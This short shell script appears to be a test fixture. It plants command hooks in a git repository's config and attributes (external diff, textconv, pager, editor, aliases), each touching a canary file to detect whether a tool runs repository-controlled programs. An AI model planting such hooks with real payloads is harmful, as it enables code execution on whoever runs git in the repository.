# The attacker wants git to compare files by a program, and to show the result by another.
git init -q
printf 'import asyncio\n\n\nasync def f():\n    asyncio.sleep(1)\n' > a.py
git add -A
git commit -q -m one
printf '\n\nasync def g():\n    f()\n' >> a.py
printf '*.py diff=x\n*.ipynb diff=x\n' > .gitattributes
cat >> .git/config <<END
[diff]
	external = touch '$CANARY'; :
[diff "x"]
	command = touch '$CANARY'; :
	textconv = touch '$CANARY'; cat
[core]
	pager = touch '$CANARY'; cat
	editor = touch '$CANARY'; :
[pager]
	diff = touch '$CANARY'; cat
	status = touch '$CANARY'; cat
[alias]
	diff = !touch '$CANARY'
	status = !touch '$CANARY'
END
